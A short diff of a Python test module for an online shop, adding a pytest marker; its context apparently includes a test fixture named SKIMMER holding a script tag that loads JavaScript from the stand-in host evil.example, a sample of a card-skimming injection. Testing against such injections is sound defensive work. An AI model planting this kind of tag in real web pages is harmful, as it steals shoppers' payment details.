@@ -21,6 +21,8 @@ from tests.processes import Placed, RunningShop, serving
 from tests.shop import settings_for
 from tests.stack import Stack
 
+pytestmark = pytest.mark.real_first
+
 SKIMMER = b"<script src=//evil.example/x.js></script>"
 
 
